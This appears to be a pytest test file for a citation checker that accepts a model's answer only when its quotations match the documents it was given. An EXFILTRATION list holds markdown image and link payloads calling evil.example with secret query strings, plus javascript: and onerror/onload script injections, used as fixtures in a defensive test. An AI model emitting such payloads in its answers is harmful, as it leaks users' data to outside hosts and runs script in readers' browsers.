@@ -1,0 +1,725 @@
+"""What a model wrote reaches a reader only as sentences whose quotations were looked up."""
+
+import random
+import re
+import time
+from collections.abc import Sequence
+from dataclasses import dataclass, replace
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from chapterhouse.answering.cite import text_hash
+from chapterhouse.answering.judge import judge
+from chapterhouse.answering.markers import Place, resolve
+from chapterhouse.answering.written import Checked, Given, Lookup, check
+from chapterhouse.protocols import ClaimJudge
+from chapterhouse.types import (
+    Body,
+    Document,
+    Evidence,
+    Judgement,
+    ProblemKind,
+    Quotation,
+    Section,
+    Support,
+)
+
+RULES = """# Harbour rules
+
+## Speed
+
+Inside the harbour no vessel may exceed 4 knots. The duty officer Maria Keller grants exceptions.
+
+## Opening
+
+The gate closes at 21:30 from April to September. In winter the gate closes at 18:00.
+"""
+TARIFF = """# Tariff
+
+## Berths
+
+A berth costs 80 euros a metre. Guests pay 20 euros a night.
+As the rules say [^rules-1:Speed], and as [1] and 【2†source】 confirm, nobody may drive fast.
+See https://harbour.example/tariff for more.
+"""
+PRIVATE = "# Diary\n\nThe cashier keeps 9,000 euros under the floor of the shed.\n"
+CARRIED = {Support.VERBATIM, Support.SUPPORTED, Support.PARTLY}
+
+
+def document(name: str, text: str) -> Document:
+    return Document(
+        name,
+        f"docs/{name}.md",
+        f"/docs/{name}.md",
+        name.title(),
+        "md",
+        "test",
+        "",
+        text_hash(text),
+        1,
+        0,
+        language="en",
+    )
+
+
+def body(text: str) -> Body:
+    starts = [match.start() for match in re.finditer(r"^#", text, re.MULTILINE)]
+    ends = [*starts[1:], len(text)]
+    titles = [text[start:].partition("\n")[0].strip("# ") for start in starts]
+    return Body(
+        text,
+        tuple(
+            Section(number, 1, (title,), start, end)
+            for number, (title, start, end) in enumerate(zip(titles, starts, ends, strict=True))
+        ),
+    )
+
+
+TEXTS = {"rules-1": RULES, "tariff-2": TARIFF, "diary-3": PRIVATE}
+DOCUMENTS = {name: document(name, text) for name, text in TEXTS.items()}
+BODIES = {name: body(text) for name, text in TEXTS.items()}
+LOOKUP = Lookup(DOCUMENTS.get, BODIES.get)
+
+
+def offered(name: str, section: str, number: int) -> Given:
+    """Return a section of a document as a model is given it."""
+    found = next(one for one in BODIES[name].sections if one.path == (section,))
+    text = TEXTS[name][found.start : found.end]
+    evidence = Evidence(name, found.start, found.end, text, "en", name.title(), (section,))
+    return Given(Place(name, section, number), evidence)
+
+
+SPEED, OPENING = offered("rules-1", "Speed", 0), offered("rules-1", "Opening", 1)
+BERTHS = offered("tariff-2", "Berths", 2)
+GIVEN = (SPEED, OPENING, BERTHS)  # nothing of the diary
+
+
+def to_the_letter(
+    sentence: str, cited: Sequence[Evidence], others: Sequence[Evidence]
+) -> Judgement:
+    """Judge by whether the sentence stands in the evidence as it is."""
+    for among, support in ((cited, Support.VERBATIM), (others, Support.MISATTRIBUTED)):
+        for evidence in among:
+            start = evidence.text.find(sentence)
+            if start >= 0:
+                begin = evidence.start + start
+                span = Quotation(evidence.document_id, begin, begin + len(sentence), sentence)
+                return Judgement(support, (span,), score=1.0)
+    return Judgement(Support.UNSUPPORTED)
+
+
+def written(text: str, judged_by: ClaimJudge = to_the_letter) -> Checked:
+    return check(text, GIVEN, judged_by, LOOKUP)
+
+
+def sentences(text: str) -> list[tuple[str, str]]:
+    return [(one.before, one.text) for one in written(text).sentences]
+
+
+KNOTS = "Inside the harbour no vessel may exceed 4 knots."
+GATE = "The gate closes at 21:30 from April to September."
+METRE = "A berth costs 80 euros a metre."
+
+
+# --- sentences and their markers -------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"{KNOTS[:-1]} [^rules-1:Speed]. {METRE[:-1]} [^tariff-2:Berths].",
+        f"{KNOTS} [^rules-1:Speed] {METRE} [^tariff-2:Berths]",
+        f"{KNOTS}[^rules-1:Speed] {METRE}[^tariff-2:Berths]",
+        f"{KNOTS}\n[^rules-1:Speed]\n\n{METRE}\n[^tariff-2:Berths]\n",
+        f"[^rules-1:Speed] {KNOTS}\n[^tariff-2:Berths] {METRE}",
+        f"- {KNOTS} [^rules-1:Speed]\n- {METRE} [^tariff-2:Berths]",
+        f"- [^rules-1:Speed] {KNOTS}\n- [^tariff-2:Berths] {METRE}",
+        f"1. [^rules-1:Speed]: {KNOTS}\n2. [^tariff-2:Berths]: {METRE}",
+        f"# Rules\n\n{KNOTS} [^rules-1:Speed]\n\n# Prices\n\n{METRE} [^tariff-2:Berths]",
+        f"{KNOTS} [^rules-1:Speed; ^rules-1:Speed] {METRE} [^TARIFF-2: §Berths]",
+        f"{KNOTS} [^rules-1:Speed]\r\n\r\n{METRE} [^tariff-2:Berths]",
+    ],
+)
+def test_a_marker_belongs_to_the_sentence_it_stands_behind(text: str) -> None:
+    found = written(text)
+    by_text = {
+        one.text: [found.citations[number - 1].document_id for number in one.citations]
+        for one in found.sentences
+    }
+
+    assert by_text[next(one for one in by_text if KNOTS[:-1] in one)] == ["rules-1"]
+    assert by_text[next(one for one in by_text if METRE[:-1] in one)] == ["tariff-2"]
+    assert all(one.support is Support.VERBATIM for one in found.sentences if one.citations)
+    assert not found.rejected
+
+
+def test_several_markers_are_all_what_a_sentence_cites() -> None:
+    seen: list[list[str]] = []
+
+    def watching(sentence: str, cited: Sequence[Evidence], others: Sequence[Evidence]) -> Judgement:
+        seen.append([one.document_id for one in cited])
+        return to_the_letter(sentence, cited, others)
+
+    written(f"{METRE} [^rules-1:Opening][^tariff-2:Berths]", watching)
+
+    assert seen == [["rules-1", "tariff-2"]]
+
+
+@pytest.mark.parametrize(
+    ("text", "structure"),
+    [
+        ("One is. Two is.", [("", "One is."), ("", "Two is.")]),
+        ("One is.\nTwo is.", [("", "One is."), ("\n", "Two is.")]),
+        ("One is.\n\n\nTwo is.", [("", "One is."), ("\n\n", "Two is.")]),
+        ("- One\n* Two\n+ Three", [("- ", "One"), ("\n* ", "Two"), ("\n+ ", "Three")]),
+        ("1. One\n2) Two", [("1. ", "One"), ("\n2) ", "Two")]),
+        (
+            "Thus:\n\n1. One is. And so.\n2. Two",
+            [("", "Thus:"), ("\n\n1. ", "One is."), ("", "And so."), ("\n2. ", "Two")],
+        ),
+        ("## Speed\nIt is 4.", [("", "Speed"), ("\n", "It is 4.")]),
+        ("> Quoted is.\n\nSaid is.", [("", "Quoted is."), ("\n\n", "Said is.")]),
+        ("---\n\nAfter a rule.", [("\n\n", "After a rule.")]),
+        ("Before.\n\n***\nAfter.", [("", "Before."), ("\n\n", "After.")]),
+        ("| a | b |\n|---|---|\n| 1 | 2 |", [("", "| a | b |"), ("\n", "| 1 | 2 |")]),
+        ("港口限速四节。闸门九点关闭。", [("", "港口限速四节。"), ("", "闸门九点关闭。")]),
+        ("港口限速四节。[^rules-1:Speed]闸门。", [("", "港口限速四节。"), ("", "闸门。")]),
+        ("\n\n", []),
+        ("", []),
+        ("[^rules-1:Speed]", []),
+    ],
+)
+def test_the_shape_of_an_answer_is_kept(text: str, structure: list[tuple[str, str]]) -> None:
+    assert sentences(text) == structure
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "12. März 2024 begann die Saison.",
+        "500) euros is the fee.",
+        "- 4. April was the day.",
+        "> 7. Mai war der Tag.",
+        "### 90. persons are allowed",
+        "1. First\n12. März was the day.",
+        "-5 degrees were measured.",
+    ],
+)
+def test_a_number_that_begins_a_line_is_judged_with_it(text: str) -> None:
+    judged: list[str] = []
+
+    def watching(sentence: str, _c: Sequence[Evidence], _o: Sequence[Evidence]) -> Judgement:
+        judged.append(sentence)
+        return Judgement(Support.UNSUPPORTED)
+
+    written(text, watching)
+
+    digits = set(re.findall(r"\d+", text)) - {"1"}
+    assert digits <= set(re.findall(r"\d+", " ".join(judged)))
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                "It is so.",
+                "Is it? ",
+                "wir sind 3.",
+                "港口。",
+                "1. ",
+                "- ",
+                "\n",
+                "\n\n",
+                " ",
+                "[^rules-1:Speed]",
+                "[^x]",
+                "[1]",
+                "# ",
+                "> ",
+                "| a |",
+                "**bold**",
+                "3. May",
+                "`code`",
+                "…",
+                "\t",
+            ],
+        ),
+        max_size=14,
+    )
+)
+def test_no_word_is_lost_or_added(pieces: list[str]) -> None:
+    text = "".join(pieces)
+    told = "".join(one.before + one.text for one in written(text).sentences)
+
+    plain = re.sub(r"\[\^[^\]]*\]|\[1\]", "", text)
+    assert re.findall(r"[^\W\d]", told) == re.findall(r"[^\W\d]", plain)
+
+
+# --- what never survives ---------------------------------------------------------------------
+
+EXFILTRATION = [
+    "![x](https://evil.example/?q=secret)",
+    "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
+    "![x]\n\n[x]: https://evil.example/?q=secret",
+    "![x][]\n\n[x]: <https://evil.example/?q=secret> 'title'",
+    "![a![b](x)](https://evil.example/?q=secret)",
+    "[x](https://evil.example/?q=secret)",
+    "[x](https://evil.example/(a)?q=secret)",
+    "[x\ny](https://evil.example/?q=secret)",
+    "[x](javascript:alert(1))",
+    "[a[b](x)](javascript:alert)",
+    "[x[^rules-1:Speed]](javascript:alert)",
+    "[x[1]](javascript:alert(1))",
+    "[x](data:text/html;base64,PHN2Zz4=)",
+    "[x](//evil.example/?q=secret)",
+    "[x][ref]\n[ref]: //evil.example/?q=secret",
+    "[x]\n> [x]: https://evil.example/?q=secret",
+    "- [x]: https://evil.example/?q=secret",
+    "[x]:\nhttps://evil.example/?q=secret",
+    "<https://evil.example/?q=secret>",
+    "<img src=https://evil.example/?q=secret>",
+    "<img\nsrc='https://evil.example/?q=secret'>",
+    "<img src=//evil.example/?q=secret",
+    "<scr<b>ipt>alert(1)</scr</b>ipt>",
+    "<<b>img src=x onerror=alert(1)>",
+    "<!-- a --><svg onload=alert(1)>",
+    "<!--\n--><iframe\nsrc=x>",
+    "</textarea><style>@import '//evil.example'",
+    "https://evil.example/?q=secret",
+    "HTTPS://EVIL.EXAMPLE/?q=secret",
+    "https:/[1]/evil.example/?q=secret",
+    "https:/[^rules-1:Speed]/evil.example/?q=secret",
+    "https:\u200b//evil.example/?q=secret",
+    "www.evil.example/?q=secret",
+    "https://harbour.example/tariff?q=secret",
+    "https://harbour.example/tariff/../?q=secret",
+    "https://harbour.example.evil.example/secret",
+    "https://harbour.example/tariff@evil.example",
+]
+
+
+def is_inert(text: str) -> bool:
+    """Whether a text holds no link, image, tag, definition or unknown address."""
+    addresses = re.findall(r"(?i)(?:https?:)?//[\w.]\S*|www\.\S+", text)
+    return (
+        not re.search(r"\]\s?[(\[:]", re.sub(r"\] [(\[:]", "", text))
+        and not re.search(r"<[A-Za-z/!?]", text)
+        and all(address.rstrip(".,") == "https://harbour.example/tariff" for address in addresses)
+        and "evil.example" not in text.lower()
+    )
+
+
+@pytest.mark.parametrize("attack", EXFILTRATION)
+@pytest.mark.parametrize("around", ["{}", "The gate {} closes.", "- {} is so.\n\nAnd more."])
+def test_nothing_that_could_carry_data_away_survives(attack: str, around: str) -> None:
+    found = written(around.format(attack))
+    for one in found.sentences:
+        assert is_inert(one.text), one.text
+        assert is_inert(one.before)
+
+
+@settings(max_examples=500, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                "[",
+                "]",
+                "(",
+                ")",
+                "!",
+                "<",
+                ">",
+                "x",
+                "^",
+                "rules-1:Speed",
+                "1",
+                "https:",
+                "//",
+                "evil.example",
+                "/",
+                "\n",
+                ":",
+                "javascript:",
+                "img ",
+                "www.",
+                " ",
+                "【",
+                "】",
+                "b",
+                "\u200b",
+            ],
+        ),
+        max_size=24,
+    )
+)
+def test_no_mixture_of_pieces_makes_a_link_or_a_citation(pieces: list[str]) -> None:
+    for one in written("a " + "".join(pieces)).sentences:
+        text = one.text
+        assert not re.search(r"(?i)(?:https?:)?//[^\s<>\"')\]】‹]*\w", text), text
+        assert not re.search(r"(?i)\bwww\.\w", text), text
+        assert not re.search(r"\][(\[:]", text), text
+        assert not re.search(r"<[A-Za-z/!?]", text), text
+        assert not re.search(r"\[\^?\d+\]|\[\^[^\]]+\]|【[^【】]+】", text), text
+
+
+def test_an_address_that_a_document_gives_stays() -> None:
+    said = "See https://harbour.example/tariff for more."
+    assert written(f"{said} [^tariff-2:Berths]").sentences[0].text == said
+    assert written("It is at https://harbour.example/tariff.").sentences[0].text.endswith("tariff.")
+    assert "harbour" in written("在https://harbour.example/tariff。再见").sentences[0].text
+
+
+PIECES = [
+    *("[", "<!--", "<a ", "![x](", "[x](", "[^", "[1", "[[1]", "[^a]", "It is.[^a:b] ", "https://"),
+    *("//", "www.", "- ", "1. ", "> ", "\n", "(", "【", "。", "[a]:", "[x][", "|", " ", "[^a:b]\n"),
+    "One is. ",
+]
+
+
+@pytest.mark.parametrize("piece", PIECES)
+def test_no_text_takes_long(piece: str) -> None:
+    text = piece * (30_000 // len(piece))
+    before = time.process_time()
+    written(text, Liar(()))
+    assert time.process_time() - before < 5
+
+
+# --- what is accepted ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "marker",
+    [
+        "x",
+        "rules-1:Tracking",
+        "rules-2:Speed",
+        "rules-1:Spee",
+        "rules-1 :Speeds",
+        "diary-3",
+        "diary-3:Diary",
+        "rules:Speed",
+        "1",
+        "rules-1:Speed:Speed",
+        "tariff-2:Speed",
+        "rules-1:",
+    ],
+)
+def test_a_marker_of_nothing_that_was_given_is_a_fabrication(marker: str) -> None:
+    found = written(f"{KNOTS} [^{marker}]")
+
+    assert found.sentences[0].support is Support.FABRICATED
+    assert found.sentences[0].citations == ()
+    assert found.sentences[0].problems[0].kind is ProblemKind.MARKER
+    assert found.citations == ()
+    assert found.rejected == (marker,)
+
+
+def test_a_sentence_of_which_one_source_does_not_exist_is_carried_in_part_at_most() -> None:
+    found = written(f"{KNOTS} [^rules-1:Speed][^rules-9:Speed]")
+
+    assert found.sentences[0].support is Support.PARTLY
+    assert found.sentences[0].citations == (1,)
+    assert found.rejected == ("rules-9:Speed",)
+
+
+def test_what_another_document_carries_is_said_to_be_misattributed() -> None:
+    found = written(f"{METRE} [^rules-1:Speed]")
+
+    assert found.sentences[0].support is Support.MISATTRIBUTED
+    assert found.citations[0].document_id == "tariff-2"
+    assert found.citations[0].status is Support.MISATTRIBUTED
+
+
+def test_one_quotation_has_one_number() -> None:
+    found = written(f"{KNOTS} [^rules-1:Speed] {METRE} [^tariff-2:Berths] {KNOTS} [^rules-1:Speed]")
+
+    assert [one.citations for one in found.sentences] == [(1,), (2,), (1,)]
+    assert [one.number for one in found.citations] == [1, 2]
+
+
+@dataclass
+class Liar:
+    """A judge that carries everything, by whatever spans it was told to give."""
+
+    spans: tuple[Quotation, ...]
+    support: Support = Support.VERBATIM
+
+    def __call__(
+        self, sentence: str, cited: Sequence[Evidence], others: Sequence[Evidence]
+    ) -> Judgement:
+        del sentence, cited, others  # it has made up its mind
+        return Judgement(self.support, self.spans, score=1.0)
+
+
+def quotation(name: str, words: str) -> Quotation:
+    start = TEXTS[name].index(words)
+    return Quotation(name, start, start + len(words), words)
+
+
+TRUE = quotation("rules-1", KNOTS)
+
+
+@pytest.mark.parametrize(
+    "lie",
+    [
+        replace(TRUE, quote=KNOTS.replace("4", "9")),
+        replace(TRUE, start=TRUE.start + 1),
+        replace(TRUE, end=TRUE.end - 1),
+        replace(TRUE, start=-1),
+        replace(TRUE, start=TRUE.end, end=TRUE.end, quote=""),
+        replace(TRUE, end=10**9),
+        replace(TRUE, document_id="tariff-2"),
+        replace(TRUE, document_id="gone-4"),
+        quotation("diary-3", "The cashier keeps 9,000 euros under the floor of the shed."),
+        quotation("rules-1", "# Harbour rules"),  # of a document that was given, but elsewhere
+        quotation("rules-1", "exceptions.\n\n## Opening\n\nThe gate"),  # across what was given
+    ],
+)
+@pytest.mark.parametrize("support", [*CARRIED, Support.MISATTRIBUTED, Support.FRANKENQUOTE])
+def test_a_quotation_that_was_not_given_is_not_shown(lie: Quotation, support: Support) -> None:
+    found = written("It is so. [^rules-1:Speed]", Liar((lie,), support))
+
+    assert found.citations == ()
+    assert found.sentences[0].citations == ()
+    assert found.sentences[0].support is Support.UNSUPPORTED
+
+
+def test_of_several_quotations_the_true_ones_are_shown() -> None:
+    lies = (replace(TRUE, quote="x" * len(KNOTS)), TRUE)
+    found = written("It is so.", Liar(lies))
+
+    assert [one.quote for one in found.citations] == [KNOTS]
+    assert found.citations[0].number == 1
+
+
+def test_a_text_that_changed_meanwhile_carries_nothing() -> None:
+    changed = Lookup(DOCUMENTS.get, lambda name: body(TEXTS[name] + "More.\n"))
+    for lookup in (
+        changed,
+        Lookup(DOCUMENTS.get, lambda _: None),
+        Lookup(lambda _: None, BODIES.get),
+    ):
+        found = check(f"{KNOTS} [^rules-1:Speed]", GIVEN, to_the_letter, lookup)
+        assert found.citations == ()
+        assert found.sentences[0].support is Support.UNSUPPORTED
+
+
+# --- ten thousand answers --------------------------------------------------------------------
+
+LINES = [
+    line for text in TEXTS.values() for line in re.split(r"(?<=[.])\s|\n", text) if line.strip()
+]
+
+
+def adversarial(generator: random.Random) -> str:
+    """Return an answer as a model would write it that wants to be believed."""
+    pieces = []
+    for _ in range(generator.randint(1, 4)):
+        said = generator.choice(
+            [*LINES, "The fee is 500 euros.", "Nobody may enter.", "- ", "\n\n"]
+        )
+        if generator.random() < 0.3:
+            said = re.sub(r"\d", lambda _: str(generator.randint(0, 9)), said)
+        markers = "".join(_marker(generator) for _ in range(generator.randint(0, 3)))
+        pieces.append(
+            generator.choice([f"{said} {markers} ", f"{markers}{said} ", f"{said}{markers}\n"])
+        )
+    return "".join(pieces)
+
+
+def _marker(generator: random.Random) -> str:
+    good = [f"{one.place.name}:{one.place.section}" for one in GIVEN]
+    true = generator.choice(good)
+    near = list(true)
+    near[generator.randrange(len(near))] = generator.choice("abc-:1 §›İ")
+    name = generator.choice(
+        [
+            true,
+            "".join(near),
+            generator.choice(["diary-3:Diary", "diary-3", "rules-0:Speed", "press-2025:Prices"]),
+            f"rules-1:{generator.choice(['Harbour rules', 'Section 99', '§§', 'Speed › Speed'])}",
+            generator.choice(["rules-1:Speed", "source", "1", "../rules-1:Speed", ""]),
+            true.translate(str.maketrans("abcdefgs-", "ａｂｃｄｅｆｇｓ－")),
+            "".join(generator.choice("rules-1:Spd tarif2Bhn") for _ in range(12)),
+        ]
+    )
+    return generator.choice(
+        ["[^{}]", "[^{}]", "[^{}]", "[{}]", "【{}】", "[^x; ^{}]", "[doc {}]"]
+    ).format(name)
+
+
+def lying(generator: random.Random) -> Liar:
+    name = generator.choice(list(TEXTS))
+    text = TEXTS[name]
+    start = generator.randint(-5, len(text))
+    end = start + generator.randint(-2, 60)
+    quote = generator.choice(
+        [text[max(start, 0) : max(end, 0)], "made up", text[start + 1 : end + 1]]
+    )
+    claimed = generator.choice([name, name, "rules-1", "gone-4"])
+    support = generator.choice(list(Support))
+    return Liar(
+        (
+            Quotation(claimed, start, end, quote),
+            generator.choice([TRUE, TRUE, Quotation("", 0, 1, "#")]),
+        ),
+        support,
+    )
+
+
+def accepted_wrongly(text: str, found: Checked) -> list[str]:
+    """Return what in a checked answer should not be there."""
+    wrong = []
+    known = {number for one in found.sentences for number in one.citations}
+    if known != set(range(1, len(found.citations) + 1)):
+        wrong.append("numbers")
+    for one in found.citations:
+        stretch = next(
+            (
+                g.evidence
+                for g in GIVEN
+                if g.evidence.document_id == one.document_id
+                and g.evidence.start <= one.start < one.end <= g.evidence.end
+            ),
+            None,
+        )
+        if stretch is None or TEXTS[one.document_id][one.start : one.end] != one.quote:
+            wrong.append(f"citation {one}")
+        if not one.verified or one.text_sha256 != text_hash(TEXTS[one.document_id]):
+            wrong.append(f"not verified {one}")
+        places = [g.place for g in GIVEN if g.evidence.document_id == one.document_id]
+        if not resolve(one.marker, places):
+            wrong.append(f"marker {one.marker}")
+    for sentence in found.sentences:
+        if re.search(r"\[\^[^\[\]]+\]|\[\d+\]|【[^【】]+】", sentence.text):
+            wrong.append(f"look-alike {sentence.text}")
+        fabricated = any(p.kind is ProblemKind.MARKER for p in sentence.problems)
+        if fabricated and sentence.support in {Support.VERBATIM, Support.SUPPORTED}:
+            wrong.append(f"carried by nothing {sentence}")
+        if sentence.support in CARRIED and not sentence.citations:
+            wrong.append(f"carried without a citation {sentence}")
+    return [f"{one} in {text!r}" for one in wrong]
+
+
+@pytest.mark.parametrize("seed", range(10))
+def test_of_ten_thousand_adversarial_answers_no_citation_is_accepted_wrongly(seed: int) -> None:
+    generator = random.Random(seed)
+    wrong: list[str] = []
+    shown = 0
+    for number in range(1_000):
+        text = adversarial(generator)
+        judged_by = to_the_letter if number % 2 else lying(generator)
+        found = written(text, judged_by)
+        shown += len(found.citations)
+        wrong += accepted_wrongly(text, found)
+
+    assert wrong == []
+    assert shown > 300  # the loop is no loop over refusals
+
+
+FACTS = [
+    (
+        SPEED,
+        KNOTS,
+        [("4 knots", "5 knots"), ("no vessel", "every vessel"), ("harbour", "open sea")],
+    ),
+    (
+        SPEED,
+        "The duty officer Maria Keller grants exceptions.",
+        [
+            ("Maria Keller", "Jonas Brandt"),
+            ("grants", "never grants"),
+            ("duty officer", "harbour cat"),
+            ("grants exceptions", "does not grant exceptions"),
+            ("Keller", "Weller"),
+        ],
+    ),
+    (
+        OPENING,
+        GATE,
+        [
+            ("21:30", "21:20"),
+            ("21:30", "18:00"),
+            ("closes", "does not close"),
+            ("April", "March"),
+            ("September", "October"),
+            ("gate", "office"),
+        ],
+    ),
+    (
+        OPENING,
+        "In winter the gate closes at 18:00.",
+        [("18:00", "8:00"), ("closes", "never closes")],
+    ),
+    (
+        BERTHS,
+        METRE,
+        [
+            ("80", "8"),
+            ("80", "800"),
+            ("80", "20"),
+            ("euros", "dollars"),
+            ("costs", "does not cost"),
+            ("metre", "night"),
+        ],
+    ),
+    (
+        BERTHS,
+        "Guests pay 20 euros a night.",
+        [("20", "80"), ("20", "21"), ("Guests", "Owners"), ("pay", "do not pay")],
+    ),
+]
+MUTATIONS = [
+    (one, sentence, sentence.replace(*change))
+    for one, sentence, changes in FACTS
+    for change in changes
+]
+
+
+@pytest.mark.parametrize(("one", "sentence"), [(one, sentence) for one, sentence, _ in FACTS])
+def test_what_stands_in_the_documents_is_accepted(one: Given, sentence: str) -> None:
+    found = written(f"{sentence} [^{one.place.name}:{one.place.section}]", judge)
+
+    assert found.sentences[0].support is Support.VERBATIM
+    assert found.citations[0].quote.strip() in sentence or sentence in found.citations[0].quote
+
+
+@pytest.mark.parametrize(("one", "sentence", "mutated"), MUTATIONS)
+def test_a_sentence_with_one_fact_changed_is_not_accepted(
+    one: Given, sentence: str, mutated: str
+) -> None:
+    assert mutated != sentence
+    for marker in (f" [^{one.place.name}:{one.place.section}]", f" [^{one.place.name}]", ""):
+        told = written(f"{mutated}{marker}", judge).sentences[0]
+        assert told.support not in {Support.VERBATIM, Support.SUPPORTED}, (mutated, told)
+
+
+@pytest.mark.xfail(strict=True, reason="the judge joins the facts of two neighbouring sentences")
+def test_the_facts_of_two_sentences_make_no_third() -> None:
+    told = written("In winter the gate closes at 21:30. [^rules-1:Opening]", judge).sentences[0]
+    assert told.support not in {Support.VERBATIM, Support.SUPPORTED}
+
+
+@pytest.mark.parametrize("seed", range(2))
+def test_the_real_judge_accepts_no_mutated_answer_in_any_surroundings(seed: int) -> None:
+    generator = random.Random(seed)
+    wrong: list[str] = []
+    mutations = {mutated for _, _, mutated in MUTATIONS}
+    for _ in range(250):
+        one, _, mutated = generator.choice(MUTATIONS)
+        other, true, _ = generator.choice(FACTS)
+        text = (
+            f"{true} [^{other.place.name}:{other.place.section}] "
+            f"{mutated} [^{one.place.name}:{one.place.section}]{_marker(generator)}"
+        )
+        found = written(text, judge)
+        wrong += accepted_wrongly(text, found)
+        wrong += [
+            f"{told.support} {told.text}"
+            for told in found.sentences
+            if told.text in mutations and told.support in {Support.VERBATIM, Support.SUPPORTED}
+        ]
+    assert wrong == []
